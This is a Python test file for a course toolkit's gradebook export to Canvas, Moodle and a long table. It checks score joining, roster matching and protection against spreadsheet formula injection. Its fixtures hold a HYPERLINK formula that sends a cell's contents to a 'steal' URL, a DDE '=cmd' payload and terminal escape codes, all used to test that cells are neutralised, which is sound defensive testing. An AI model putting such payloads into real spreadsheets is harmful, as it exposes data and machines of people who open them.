"""Gradebook exports: the grader's table joined with a roster, for Canvas, Moodle and a long table.

The grade table is written by the grader's own writer (grade.write_csv), so the two stay in step.
"""
import csv
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from coursekit import checks
from coursekit.tools import export, grade
from coursekit.tools.safe_text import FORMULA_STARTS, spreadsheet_cell
from coursekit.tools.safe_text import inert as printable

ROOT = Path(__file__).resolve().parents[1]
FORMULA_NAME = '=HYPERLINK("http://example.org/steal?"&A1,"click me")'
ROSTER = [
    {"student_id": "s1", "name": "Kim Lee", "email": "kim@example.org", "file": "kim_lee.ipynb", "section": "A"},
    {"student_id": "s2", "name": FORMULA_NAME, "email": "ana@example.org", "file": "*ana*", "section": "A"},
    {"student_id": "s3", "name": "Omar Said", "email": "omar@example.org", "file": "*omar*", "section": "B"},
    {"student_id": "s4", "name": "Zoe Park", "email": "zoe@example.org", "file": "zoe.ipynb", "section": "B"},
]
UNMATCHED_FORMULA = "=cmd|' /C calc'!A0.ipynb"


def lesson01_grade(file: str, earned: dict, status: str = "ok", reason: str = "") -> grade.Grade:
    return grade.Grade(file=file, lesson="01", points={task.id: earned.get(task.id, 0) for task in checks.tasks("01")},
                       status=status, reason=reason, sandbox="bwrap")


@pytest.fixture
def inputs(tmp_path):
    grades = [
        lesson01_grade("submissions/kim_lee.ipynb", {"01.1": 3, "01.2": 3, "01.3": 2, "01.4": 2}),
        lesson01_grade("submissions/late/Ana_Souza_final.ipynb", {"01.1": 3, "01.3": 2, "01.4": 2}, "errors",
                       "errors in cell 3"),
        lesson01_grade(UNMATCHED_FORMULA, {"01.2": 3}),   # a file name, from the grader run in its folder
        lesson01_grade("submissions/+stray\x1b[2J.ipynb", {}),
        grade.Grade(file="submissions/zoe.ipynb", status="grader-error", reason="RuntimeError: boom"),
    ]
    grades_csv = tmp_path / "grades.csv"
    grade.write_csv(grades, grades_csv)
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8-sig") as handle:  # as Excel saves it
        writer = csv.DictWriter(handle, fieldnames=["student_id", "name", "email", "file", "section"])
        writer.writeheader()
        writer.writerows(ROSTER)
    return grades_csv, roster


def run_export(grades_csv, roster, out, *more):
    return subprocess.run([sys.executable, "-m", "coursekit.tools.export", str(grades_csv), "--roster", str(roster),
                           "--assignment", "Lesson 01", "--out", str(out), *more],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)


def run_grade_export(capsys, grades_csv, roster, out, *more) -> SimpleNamespace:
    """``python -m coursekit.tools.grade export ...``, in this process (the grader's import takes seconds)."""
    capsys.readouterr()
    code = grade.main(["export", str(grades_csv), "--roster", str(roster), "--assignment", "Lesson 01",
                       "--out", str(out), *more])
    printed = capsys.readouterr()
    return SimpleNamespace(returncode=code, stdout=printed.out, stderr=printed.err)


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), f"cell {cell!r} would start a formula"
            assert "\x1b" not in cell and "\n" not in cell, f"cell {cell!r} holds a control character"


def test_canvas_export_has_every_student_blank_when_missing_and_lists_unmatched_files(inputs, tmp_path, capsys):
    out = tmp_path / "canvas.csv"
    result = run_grade_export(capsys, *inputs, out, "--format", "canvas")   # the others run coursekit.tools.export
    assert result.returncode == 0, result.stderr
    rows = read(out)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lesson 01"]
    scores = {row[2]: row[5] for row in rows[1:]}
    assert scores == {"s1": "10", "s2": "7", "s3": "", "s4": ""}   # s3 handed nothing in, s4's grading failed
    assert len(rows) == 1 + len(ROSTER)                                # one row per student, none for stray files
    # the two files that match no student are listed, on the screen and in a file beside the export
    assert "2 file(s) match no student" in result.stdout and "No submission from 1 student(s)" in result.stdout
    assert "s3" in result.stdout and "s4 (submissions/zoe.ipynb: grader-error)" in result.stdout
    leftover = read(tmp_path / "canvas-unmatched.csv")
    assert [row[0] for row in leftover[1:]] == ["'" + UNMATCHED_FORMULA,
                                                printable("submissions/+stray\x1b[2J.ipynb")]
    assert "\x1b" not in result.stdout
    assert_no_formula(rows)
    assert_no_formula(leftover)


def test_missing_zero_gives_an_explicit_zero(inputs, tmp_path):
    out = tmp_path / "moodle.csv"
    result = run_export(*inputs, out, "--format", "moodle", "--missing", "zero")
    assert result.returncode == 0, result.stderr
    rows = read(out)
    assert rows[0] == ["ID number", "Email address", "Full name", "Lesson 01"]
    scores = {row[0]: row[3] for row in rows[1:]}
    assert scores == {"s1": "10", "s2": "7", "s3": "0", "s4": ""}  # not graded stays blank: it is no zero
    assert_no_formula(rows)


def test_long_format_names_max_score_status_and_the_file(inputs, tmp_path):
    out = tmp_path / "long.csv"
    result = run_export(*inputs, out, "--format", "long")
    assert result.returncode == 0, result.stderr
    rows = read(out)
    header, body = rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]
    assert header == ["assignment", "student_id", "name", "email", "file", "score", "max_score", "status"]
    by_id = {row["student_id"]: row for row in body}
    assert {row["max_score"] for row in body} == {"10"}                 # lesson 01's points, from its checks
    assert by_id["s2"]["file"] == "submissions/late/Ana_Souza_final.ipynb" and by_id["s2"]["status"] == "errors"
    assert by_id["s3"]["status"] == "no submission" and by_id["s3"]["file"] == ""
    # the student's name that starts with "=" is kept, readable, as text
    assert by_id["s2"]["name"] == "'" + FORMULA_NAME
    assert_no_formula(rows)


def test_a_file_two_students_match_is_an_error_naming_both(inputs, tmp_path):
    grades_csv, roster = inputs
    rows = read(roster)
    rows.append(["s5", "Anabel", "anabel@example.org", "*ana*", "C"])
    with open(roster, "w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    result = run_export(grades_csv, roster, tmp_path / "x.csv", "--format", "canvas")
    assert result.returncode == 2 and not (tmp_path / "x.csv").exists()
    assert "Ana_Souza_final.ipynb: students s2, s5" in result.stderr


def test_a_pattern_that_matches_two_files_is_an_error(inputs, tmp_path):
    grades_csv, roster = inputs
    rows = read(roster)
    rows[1][3] = "*.ipynb"   # s1's pattern now matches every file
    with open(roster, "w", newline="") as handle:
        csv.writer(handle).writerows(rows[:2])
    result = run_export(grades_csv, roster, tmp_path / "x.csv", "--format", "canvas")
    assert result.returncode == 2
    assert "Student s1" in result.stderr and "matches 5 files" in result.stderr


def test_bad_roster_and_output_over_an_input_are_refused(inputs, tmp_path):
    grades_csv, roster = inputs
    bad = tmp_path / "bad.csv"
    bad.write_text("id,name\n1,Kim\n")
    result = run_export(grades_csv, bad, tmp_path / "x.csv", "--format", "canvas")
    assert result.returncode == 2
    assert "no column 'student_id', 'file'" in result.stderr and "['id', 'name']" in result.stderr
    before = grades_csv.read_bytes()
    result = run_export(grades_csv, roster, grades_csv, "--format", "canvas")
    assert result.returncode == 2 and "is one of the inputs" in result.stderr
    assert grades_csv.read_bytes() == before


def test_patterns_match_names_paths_and_ignore_case():
    student = export.Student("s1", "*kim*")
    assert student.matches("subs/KIM_lee.ipynb") and not student.matches("subs/lee.ipynb")
    assert export.Student("s1", "subs/a/*.ipynb").matches("subs/a/x.ipynb")
    assert not export.Student("s1", "subs/a/*.ipynb").matches("subs/b/x.ipynb")
    assert export.Student("s1", "x.ipynb").matches("deep/folder/x.ipynb")
    assert not export.Student("s1", "x.ipynb").matches("deep/folder/xx.ipynb")


def test_cells_are_inert_numbers_stay_numbers():
    assert spreadsheet_cell(7) == 7 and spreadsheet_cell(0) == 0
    assert spreadsheet_cell("-3") == "'-3" and spreadsheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_cell("  =1+1") == "'  =1+1" and spreadsheet_cell("\uff1d1+1").startswith("'")
    assert spreadsheet_cell("a\nb\x1b[2J") == "a\\nb\\x1b[2J"
    assert spreadsheet_cell("\t=1") == "\\t=1"      # a tab cannot start the cell either
    assert spreadsheet_cell("Kim Lee") == "Kim Lee"


def test_a_file_name_the_grader_guarded_with_an_apostrophe_matches_its_roster_entry(tmp_path):
    """grades.csv writes a file named '=kim.ipynb' as "'=kim.ipynb"; the roster names the file itself."""
    grades = tmp_path / "grades.csv"
    grades.write_text("file,01.1,total,status\n'=kim.ipynb,10,10,ok\n'notes.ipynb,0,0,ok\n", encoding="utf-8")
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,file\ns1,=kim.ipynb\ns2,'notes.ipynb\n", encoding="utf-8")
    built = export.build_export(grades, roster)
    found = {m.student.student_id: m.grade.file for m in built.matches if m.grade}
    assert found == {"s1": "=kim.ipynb", "s2": "'notes.ipynb"}   # an apostrophe of the name itself stays
    assert built.unmatched == []
